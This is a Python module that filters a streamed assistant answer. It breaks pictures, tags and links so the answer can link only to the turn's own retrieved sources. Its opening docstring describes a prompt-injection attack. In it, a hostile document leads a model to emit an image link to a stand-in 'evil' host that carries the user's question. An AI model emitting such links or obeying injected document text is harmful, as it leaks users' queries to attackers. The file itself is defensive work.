"""Filter for an answer's links and pictures.

A model that obeys a hostile document would write `![](http://evil/?q=what-was-asked)`, and a
front end that renders it would send the question there. So an answer holds no picture, since
a browser loads it without a click, and no link but to an http(s) address of the turn's own
documents. Whatever Markdown (CommonMark, and the bare addresses of GitHub's flavour) or HTML
would render as another link, a picture or a tag gets a space where it breaks; nothing is ever
taken out, so that no two parts join into a link. In code too: some front ends run code.

Our own filter rather than a sanitiser: those take whole HTML, and this is Markdown in deltas.
"""

import re
from collections.abc import AsyncGenerator, Iterable, Iterator
from contextlib import aclosing

from msgspec.structs import replace

from app.events import Event, Failed, Retrieved, RouteChosen, TextDelta, ToolRan

# An e-mail address as GitHub's flavour and linkify-it have it: what is before the @, and the
# first part of its domain.
_LOCAL_PART = r"\w.+\-;:&=$,"
_LABEL = r"(?:[\w-]|\\[-_])"
_TOKEN = re.compile(
    r"(?P<picture>!(?=\[))"
    r"|(?P<inline>\](?=\())"  # of [text](address)
    r"|(?P<definition>\](?=:))"  # of [name]: address
    r"|(?P<tag><(?=[a-z/!?])(?!br ?/?>|b(?:r ?/?)?\Z))"
    r"|(?P<reference>&(?=\#|(?:colon|sol|period|commat);))"  # what hides those below
    r"|(?P<scheme>(?<![a-z0-9])https?:\\?/(?=\\?/))"
    r"|(?P<slash>/(?=\\?/))"
    r"|(?P<www>(?<=www)\\?\.)"
    rf"|(?P<mail>(?:(?<=[{_LOCAL_PART}])|(?<=[{_LOCAL_PART}]\"))\\?@"
    rf"(?={_LABEL}{{255}}|{_LABEL}{{1,254}}\\?\.[\w-]))"
    r"|(?P<contact>(?:(?<=mailto)|(?<=xmpp)):)",
    re.IGNORECASE,
)
_BEHIND = 8
"""Characters of what was given out that a token looks back on, or that it may begin in."""

_MAY_BEGIN_A_TOKEN = re.compile(r"[!\]<&h/.:\\@]", re.IGNORECASE)
# An end of text that may be the beginning of a token.
_PARTIAL = re.compile(
    r"(?:!|\]|<(?:b(?:r ?/?)?)?|/?\\|/"
    rf"|(?<=[{_LOCAL_PART}\"])\\?@{_LABEL}{{0,254}}\\?\.?"
    r"|&(?:c(?:o(?:l(?:on?)?|m(?:m(?:at?)?)?)?)?|s(?:ol?)?|p(?:e(?:r(?:i(?:od?)?)?)?)?)?"
    r"|(?<![a-z0-9])h(?:t(?:t(?:ps?(?::\\?/?\\?)?)?)?)?)\Z",
    re.IGNORECASE,
)
# The same, without the schemes, whose slashes are tokens too.
_DANGLING = re.compile(
    rf"(?:[!\]\\/]|<(?:b(?:r ?/?)?)?|&[a-z]*|@{_LABEL}{{0,254}}\.?)\Z", re.IGNORECASE
)
_UNFINISHED_TAG = re.compile(r"<(?=b(?:r ?/?)?\Z)", re.IGNORECASE)
_ADDRESS = re.compile(r"https?://[^\s<>()\[\]\"'`\\]{1,2000}")
_ADDRESS_AT_END = re.compile(r"https?://\S{0,2010}\Z")
# What may follow an address without being part of it: whatever else did would be, where the
# brackets before it make no link after all. White space is ASCII's: of the rest each renderer
# has its own idea.
_END_OF_ADDRESS = re.compile(r"[.,;:!?)\]*_~'\">]{0,3}(?:[ \t\n\v\f\r]|(?P<open>\Z))")


class LinkFilter:
    """Text in, in any deltas; the same text out, less its links. Holds back as little as it can.

    `before` is the text that the output continues.
    """

    def __init__(self, before: str = "") -> None:
        self._allowed: list[str] = []
        self._text = before
        self._at = len(before)  # the text before it was given out
        self._interrupted = bool(before)

    def allow(self, addresses: Iterable[str | None]) -> None:
        """Let links to these pass, letter by letter as they are here."""
        own = {address for address in addresses if address and _ADDRESS.fullmatch(address)}
        # The longest first: one may begin another.
        self._allowed = sorted(own.union(self._allowed), key=len, reverse=True)

    def feed(self, text: str) -> str:
        """What can be given out now; may be empty."""
        held_back = self._interrupted or self._at < len(self._text)
        if not held_back and not _MAY_BEGIN_A_TOKEN.search(text):
            # Most deltas of most answers.
            self._text = self._text[-_BEHIND:] + text
            self._at = len(self._text)
            return text
        return self._take(text, final=False)

    def end(self) -> str:
        """What was held back, once nothing follows it."""
        out = self._take("", final=True)
        self._interrupted = True
        return out

    def _take(self, more: str, *, final: bool) -> str:
        if self._interrupted and more:
            more = self._apart(more)
        text = self._text = self._text[max(0, self._at - _BEHIND) :] + more
        at = min(self._at, _BEHIND)
        out: list[str] = []
        end = None
        while token := _TOKEN.search(text, at):
            kept = self._kept(token, final=final)
            if kept is None:
                end = token.start()
                break
            out += text[at : token.start()], kept or _spaced(token)
            at = token.start() + len(kept) if kept else token.end()
        if end is None:
            partial = None if final else _PARTIAL.search(text, at)
            end = partial.start() if partial else len(text)
        rest = text[at:end]
        out.append(_UNFINISHED_TAG.sub("< ", rest) if final else rest)
        self._at = end
        return "".join(out)

    def _apart(self, more: str) -> str:
        """`more`, behind a space where it could make a link of the end that was given out."""
        self._interrupted = False
        open_end = _DANGLING.search(self._text) or _ADDRESS_AT_END.search(self._text)
        return f" {more}" if open_end and more[0] not in " \t\n\v\f\r" else more

    def _kept(self, token: re.Match[str], *, final: bool) -> str | None:
        """What of the text passes as a link to a source; None: more text will tell."""
        kind, rest = token.lastgroup, token.string[token.start() :]
        undecided = False
        for address in self._allowed if kind in ("inline", "scheme") else ():
            link = f"]({address})" if kind == "inline" else address
            if rest.startswith(link):
                end = _END_OF_ADDRESS.match(rest, len(link))
                if end and (final or end["open"] is None):
                    return link
                undecided = undecided or bool(end)
            undecided = undecided or link.startswith(rest)
        return None if undecided and not final else ""


def _spaced(token: re.Match[str]) -> str:
    """The token with a space where it breaks."""
    return f" {token[0]}" if token.lastgroup == "mail" else f"{token[0]} "


class EventLinkFilter:
    """A turn's events, whose text links to nothing but the turn's own sources.

    `before` is the part of the answer that the caller has already.
    """

    def __init__(self, before: str = "") -> None:
        self._links = LinkFilter(before)
        self._emitted = [before]

    @property
    def text(self) -> str:
        """The answer's text so far, as the caller has it."""
        return "".join(self._emitted)

    def take(self, event: Event) -> Iterator[Event]:
        """Yield the events that can be passed on after `event`."""
        if isinstance(event, TextDelta):
            yield from self._delta(self._links.feed(event.text))
            return
        if isinstance(event, Retrieved | ToolRan):
            self._links.allow(passage.uri for passage in event.passages)
        if not isinstance(event, Retrieved | RouteChosen):
            yield from self._delta(self._links.end())
        yield replace(event, partial_text=self.text) if isinstance(event, Failed) else event

    def _delta(self, text: str) -> Iterator[TextDelta]:
        if text:
            self._emitted.append(text)
            yield TextDelta(text)


async def without_external_links(
    events: AsyncGenerator[Event], before: str = ""
) -> AsyncGenerator[Event]:
    """Yield `events` through an `EventLinkFilter`."""
    links = EventLinkFilter(before)
    async with aclosing(events):
        async for event in events:
            for passed in links.take(event):
                yield passed
